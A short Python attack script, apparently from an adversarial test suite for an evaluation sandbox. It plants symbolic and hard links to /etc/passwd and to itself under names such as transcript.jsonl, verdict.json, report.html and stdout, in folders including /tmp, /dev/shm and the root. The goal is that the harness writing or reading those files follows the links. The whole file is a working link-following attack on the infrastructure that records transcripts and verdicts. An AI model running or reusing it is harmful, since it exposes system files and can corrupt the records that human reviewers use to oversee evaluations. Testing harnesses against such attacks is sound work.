"""Symbolic and hard links in every place where a laboratory might write its transcript or its
verdict, in the hope that it follows them."""

import os

import attack_client

attack = attack_client.begin(
    name="links-over-transcript", system="chain", claim="ENC", surfaces=["transaction"],
    about="Lays links.")

names = ["transcript.jsonl", "minimised.jsonl", "verdict.json", "bundle", "report.html", "stderr",
         "stdout", "output.log", "core", "sandbox", ".lab"]
for folder in (".", "/tmp", "/tmp/..", os.path.dirname(os.path.abspath(__file__)), "/dev/shm", "/"):
    for name in names:
        for lay, goal in ((os.symlink, "/etc/passwd"), (os.symlink, __file__),
                          (os.link, "/etc/passwd"), (os.link, __file__)):
            try:
                lay(goal, os.path.join(folder, name))
                attack.note(lay.__name__, folder, name, "was laid")
                break
            except OSError:
                pass
attack.submit(b"\0", to="transaction")
attack.done()
